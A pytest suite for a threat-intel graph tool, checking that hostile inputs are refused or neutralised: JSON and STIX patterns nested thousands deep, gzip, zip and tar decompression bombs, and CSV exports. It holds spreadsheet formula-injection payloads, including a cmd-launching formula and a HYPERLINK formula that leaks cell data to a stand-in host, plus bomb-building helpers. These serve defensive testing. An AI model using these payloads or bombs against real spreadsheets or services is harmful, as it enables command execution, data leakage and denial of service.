"""A hostile file cannot hurt an importer: parsers stay linear and bounded, deep nesting is a
422 or one CLI line, archives and gzip are measured while read, CSV output is inert in a
spreadsheet, loads and imports of the same thing do not overlap, and a release is never null.

Facts asserted are computed from the inputs the tests build (how many distinct entries, which
one comes last), never from what the code printed before.
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import os
import subprocess
import sys
import tarfile
import tracemalloc
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient

from api.app import create_app
from api.archives import extract_archive
from api.output import csv_safe, csv_text
from loader import intel as intel_loader
from loader.inventory import parse_inventory
from loader.locks import graph_lock
from queries import layers as L
from queries.errors import Conflict, InvalidInput
from queries.graph import Graph
from queries.limits import check_nesting
from queries.settings import Settings

from .conftest import ICS, ICS_21, REPO, free_port

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "+1+2",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def run_cli(settings: Settings, *args: str, uri: str | None = None) -> subprocess.CompletedProcess:
    env = dict(
        os.environ,
        NEO4J_URI=uri or settings.neo4j_uri,
        NEO4J_USER=settings.neo4j_user,
        NEO4J_PASSWORD=settings.neo4j_password,
        COLUMNS="200",
        PYTHONPATH=os.pathsep.join([str(REPO), os.environ.get("PYTHONPATH", "")]),
    )
    return subprocess.run([sys.executable, "-m", "api.cli", *args], capture_output=True,
                          text=True, env=env, timeout=300, cwd=REPO)  # fmt: skip


def one_line_error(proc: subprocess.CompletedProcess, *needles: str) -> str:
    assert proc.returncode == 1, (proc.returncode, proc.stdout, proc.stderr[-2000:])
    lines = [ln for ln in proc.stderr.splitlines() if ln.strip()]
    assert len(lines) <= 2 and "Traceback" not in proc.stderr, proc.stderr[-3000:]
    text = " ".join(lines)
    for needle in needles:
        assert needle in text, text
    return text


@pytest.fixture(scope="module")
def client(graph: Graph, settings: Settings) -> Iterator[TestClient]:
    local = settings.model_copy(update={"ttpgraph_api_auth": False})
    with TestClient(create_app(local)) as c:
        yield c


def layer(techniques: list[dict[str, Any]], **extra: Any) -> dict[str, Any]:
    versions = {"layer": "4.5", "attack": "18", "navigator": "5.1.0"}
    return {"name": "hostile", "domain": "enterprise-attack", "techniques": techniques,
            "versions": versions, **extra}  # fmt: skip


def deep_layer(depth: int) -> str:
    return json.dumps(layer([]))[:-1] + ', "metadata": ' + "[" * depth + "]" * depth + "}"


# ---------------------------------------------------------------- layers


def test_a_layer_with_thousands_of_repeats_is_read_in_one_pass() -> None:
    """The issue's 661 KB / 16k entries took 19.7 s (a list rebuilt per repeat)."""
    ids = [f"T{1000 + i}" for i in range(600)]
    tactics = ["execution", "persistence", "discovery", "collection", "impact"]
    keys = [(t, ta) for t in ids for ta in tactics]  # 3,000 distinct entries
    entries = [{"techniqueID": t, "tactic": ta, "score": round} for round in range(6)
               for t, ta in keys]  # fmt: skip
    parsed = L.read_layer(json.dumps(layer(entries)))
    assert len(entries) == 18_000 and len(parsed.techniques) == len(keys)
    assert {t.score for t in parsed.techniques} == {5}  # the later entry wins
    assert sum("repeats" in w for w in parsed.warnings) == len(entries) - len(keys)
    # An inventory read from the same layer: one rule per technique, each tag once.
    inv_file = Path(os.environ.get("TMPDIR", "/tmp")) / f"hostile-layer-{os.getpid()}.json"
    many_tactics = [{"techniqueID": "T1059", "tactic": f"tactic-{i}", "score": 1}
                    for i in range(40_000)]  # fmt: skip
    inv_file.write_text(json.dumps(layer(many_tactics)))
    try:
        inv = parse_inventory("layer", inv_file)
    finally:
        inv_file.unlink()
    assert [r.rule_id for r in inv.rules] == ["T1059"]
    assert len(inv.rules[0].raw_tags) == 40_001  # T1059 and 40,000 distinct tactics


def test_rows_repeating_one_rule_id_merge_in_one_pass(tmp_path: Path) -> None:
    """60,000 CSV rows of one rule, each with its own technique id: one rule holding them all,
    each tag once (merging used to scan the merged tag list per row)."""
    ids = [f"T{1000 + i % 9000}.{i // 9000 + 1:03d}" for i in range(60_000)]
    path = tmp_path / "rules.csv"
    path.write_text("rule_id,name,technique\n" + "".join(f"r1,one,{t}\n" for t in ids))
    inv = parse_inventory("csv", path)
    assert len(inv.rules) == 1
    assert inv.rules[0].raw_tags == ids and inv.rules[0].techniques == sorted(set(ids))


def test_a_layer_nested_50k_deep_is_a_422_and_one_cli_line(
    client: TestClient, settings: Settings, tmp_path: Path
) -> None:
    text = deep_layer(50_000)
    with pytest.raises(InvalidInput, match="nested deeper than 100 levels"):
        L.read_layer(text)
    upload = {"layer": ("deep.json", text.encode(), "application/json")}
    resp = client.post("/api/v1/layers/import", files=upload)
    assert resp.status_code == 422, resp.text
    assert "nested deeper than 100 levels" in resp.json()["detail"]
    path = tmp_path / "deep.json"
    path.write_text(text)
    one_line_error(run_cli(settings, "layer", "import", str(path)), "nested deeper than 100")


def nested(depth: int, *, inner: Any = 1) -> Any:
    """``depth`` containers, alternating lists and objects, around ``inner``."""
    value = inner
    for i in range(depth):
        value = [value, "x"] if i % 2 else {"k": value, "s": "x"}
    return value


def test_the_nesting_limit_is_exact() -> None:
    """``limit`` levels of lists/objects pass, one more is refused, wherever it sits; scalars
    and strings are not levels."""
    for limit in (1, 2, 5, 100):
        check_nesting(nested(limit), "ok.json", limit)
        check_nesting(nested(limit, inner="deep" * 1000), "ok.json", limit)
        with pytest.raises(InvalidInput, match=f"deep.json: nested deeper than {limit} levels"):
            check_nesting(nested(limit + 1), "deep.json", limit)
        # the deep branch last, after shallow siblings
        with pytest.raises(InvalidInput, match=f"nested deeper than {limit} levels"):
            check_nesting([*[1] * 50, nested(limit)], "deep.json", limit)
        check_nesting([*[1] * 50, nested(limit - 1)], "ok.json", limit)
    check_nesting("text", "ok.json", 1)
    check_nesting(7, "ok.json", 1)


# ---------------------------------------------------------------- intel


def indicator_bundle(pattern: str) -> bytes:
    ind = {"type": "indicator", "spec_version": "2.1",
           "id": "indicator--8e2e2d2b-17d4-4cbf-938f-98ee46b3cd3f",
           "created": "2024-01-01T00:00:00.000Z", "modified": "2024-01-01T00:00:00.000Z",
           "name": "hostile", "pattern": pattern, "pattern_type": "stix",
           "valid_from": "2024-01-01T00:00:00Z"}  # fmt: skip
    return json.dumps({"type": "bundle", "id": "bundle--5d0092c5-5f74-4287-9642-33f4c354e56d",
                       "objects": [ind]}).encode()  # fmt: skip


def test_a_stix_pattern_nested_3000_deep_is_refused_by_name(
    client: TestClient, settings: Settings, tmp_path: Path
) -> None:
    deep = "(" * 3000 + "[ipv4-addr:value = '203.0.113.7']" + ")" * 3000
    raw = indicator_bundle(deep)
    resp = client.post("/api/v1/intel/imports",
                       files={"file": ("deep.json", raw, "application/json")})  # fmt: skip
    assert resp.status_code == 422, resp.text
    assert "objects[0]" in resp.json()["detail"] and "50 levels" in resp.json()["detail"]
    path = tmp_path / "deep-pattern.json"
    path.write_bytes(raw)
    one_line_error(run_cli(settings, "intel", "import", str(path)), "objects[0]", "50 levels")
    # A JSON document nested past the limit anywhere is named too.
    with pytest.raises(InvalidInput, match="nested deeper than 100 levels"):
        intel_loader.read_json(b'{"a":' * 5000 + b"1" + b"}" * 5000, "deep.json")


def test_a_gzip_bomb_stops_at_the_expansion_limit_in_memory() -> None:
    raw = gzip.compress(b"\0" * (128 * 1024 * 1024), compresslevel=9)
    assert len(raw) < 1024 * 1024
    tracemalloc.start()
    try:
        with pytest.raises(InvalidInput, match="expands past"):
            intel_loader.read_json(raw, "bomb.json.gz")
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    # 100 x its size at most (the 0.5 MB upload grew a worker to 2.36 GB).
    assert peak < 200 * len(raw) + 16 * 1024 * 1024


# ---------------------------------------------------------------- archives


def zip_bomb(path: Path, mb: int = 200) -> Path:
    with (
        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf,
        zf.open("rules/bomb.yml", "w", force_zip64=True) as fh,
    ):
        block = b"\0" * (1 << 20)
        for _ in range(mb):
            fh.write(block)
    return path


class _Zeros:
    def __init__(self, n: int) -> None:
        self.n = n

    def read(self, k: int = -1) -> bytes:
        k = self.n if k < 0 else min(k, self.n)
        self.n -= k
        return b"\0" * k


def tar_bomb(path: Path, mb: int = 200) -> Path:
    with tarfile.open(path, "w:gz") as tf:
        info = tarfile.TarInfo("rules/bomb.yml")
        info.size = mb << 20
        tf.addfile(info, _Zeros(info.size))  # type: ignore[arg-type]
    return path


def files_under(folder: Path) -> int:
    return sum(f.stat().st_size for f in folder.rglob("*") if f.is_file())


@pytest.mark.parametrize("make", [zip_bomb, tar_bomb], ids=["zip", "tar.gz"])
def test_archive_bombs_write_nothing_past_the_limit(make: Any, tmp_path: Path) -> None:
    bomb = make(tmp_path / ("bomb.zip" if make is zip_bomb else "bomb.tar.gz"))
    assert bomb.stat().st_size < 256 * 1024  # a 1,000x bomb
    into = tmp_path / "out"
    into.mkdir()
    with pytest.raises(InvalidInput, match="unpacks to more than"):
        extract_archive(bomb, into)
    assert files_under(into) == 0  # refused from the sizes it declares, before writing


def test_an_uploaded_zip_bomb_is_a_422(client: TestClient, tmp_path: Path) -> None:
    bomb = zip_bomb(tmp_path / "rules.zip")
    resp = client.post(
        "/api/v1/inventories",
        files={"file": ("rules.zip", bomb.read_bytes(), "application/zip")},
        data={"format": "sigma", "name": "hostile-bomb"},
    )
    assert resp.status_code == 422, resp.text
    assert "unpacks to more than" in resp.json()["detail"]


# ---------------------------------------------------------------- CSV


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised() -> None:
    for text in FORMULAS:
        assert csv_safe(text) == "'" + text
    assert csv_safe(-1.5) == "-1.5" and csv_safe(-3) == "-3"  # numbers stay numbers
    assert csv_safe("T1059.001") == "T1059.001" and csv_safe(None) == ""
    out = csv_text(["name", "n"], [[f, -1.5] for f in FORMULAS])
    rows = list(csv.reader(io.StringIO(out)))
    assert rows[0] == ["name", "n"]
    assert [r[0] for r in rows[1:]] == ["'" + f for f in FORMULAS]
    assert all(r[1] == "-1.5" for r in rows[1:])
    # OWASP: the neutralised cell is quoted as well.
    assert out.split("\n")[1] == "\"'=cmd|' /C calc'!A0\",-1.5"


def test_cli_csv_exports_are_inert(graph: Graph, settings: Settings) -> None:
    names = [f for f in FORMULAS if f[0] not in "\t\r"]  # incident names are one printable line
    for name in names:
        intel_loader.create_incident(graph, name=name, techniques=["T1059.001"], replace=True)
    try:
        proc = run_cli(settings, "incident", "list", "--format", "csv")
        assert proc.returncode == 0, proc.stderr
        rows = list(csv.DictReader(io.StringIO(proc.stdout)))
        listed = {r["name"] for r in rows}
        assert {"'" + n for n in names} <= listed and not set(names) & listed
        for line in proc.stdout.splitlines()[1:]:
            assert not line.startswith(("=", "+", "-", "@")), line
    finally:
        for name in names:
            intel_loader.delete_source(graph, f"incident: {name}")


# ---------------------------------------------------------------- loads and imports


def test_a_release_is_never_null(graph: Graph, settings: Settings, tmp_path: Path) -> None:
    before = graph.read("MATCH (r:Release {domain: 'ics-attack'}) RETURN properties(r) AS p")
    nameless = tmp_path / "ics.json"  # STIX 2.0: no x-mitre-collection, and no release here
    nameless.write_bytes(ICS.read_bytes())
    one_line_error(run_cli(settings, "load", "--source", str(nameless)), "--release")
    after = graph.read("MATCH (r:Release {domain: 'ics-attack'}) RETURN properties(r) AS p")
    assert after == before and after[0]["p"]["version"]


def test_a_second_load_of_the_same_domain_fails_with_one_line(
    graph: Graph, settings: Settings
) -> None:
    with graph_lock(graph, "load:ics-attack", what="a load of ics-attack (test)"):
        proc = run_cli(settings, "load", "--source", str(ICS_21))
        one_line_error(proc, "another one is running", "a load of ics-attack (test)")
        with (
            pytest.raises(Conflict, match="another one is running"),
            graph_lock(graph, "load:ics-attack", what="a load of ics-attack"),
        ):
            pass
    # A holder that died: its lease ran out, the lock is free.
    graph.write(
        "CREATE (:TtpgraphLock {name: 'load:ics-attack', owner: 'dead', what: 'a load', "
        "since: timestamp() - 999999, expires: timestamp() - 1})"
    )
    with graph_lock(graph, "load:ics-attack", what="a load of ics-attack"):
        pass
    assert not graph.read("MATCH (l:TtpgraphLock) RETURN l.name AS name")


def test_neo4j_away_during_an_import_is_one_line(
    settings: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capfd: Any
) -> None:
    """The command path a kill of Neo4j mid-import takes: the driver's error reaches the CLI,
    which prints one line (it printed a 106-line traceback)."""
    from api import cli, cli_coverage  # noqa: F401 - registers the inventory commands

    rules = tmp_path / "rules.csv"
    rules.write_text("rule_id,name,technique\nr1,one,T1059.001\n")
    away = settings.model_copy(update={"neo4j_uri": f"bolt://127.0.0.1:{free_port()}"})
    monkeypatch.setattr(cli, "_graph", Graph.connect(away, fail_fast=True))
    try:
        code = cli.app(["inventory", "import", "csv", str(rules), "--name", "x"],
                       standalone_mode=False)  # fmt: skip
    finally:
        cli._graph.close()  # type: ignore[union-attr]
    assert code == 1
    text = capfd.readouterr().err
    # Progress comes first as plain lines (not a terminal); the failure is one line, no trace.
    err = [ln for ln in text.splitlines() if ln.startswith("error:")]
    assert len(err) == 1 and "Neo4j is not reachable" in err[0], text
    assert "Traceback" not in text
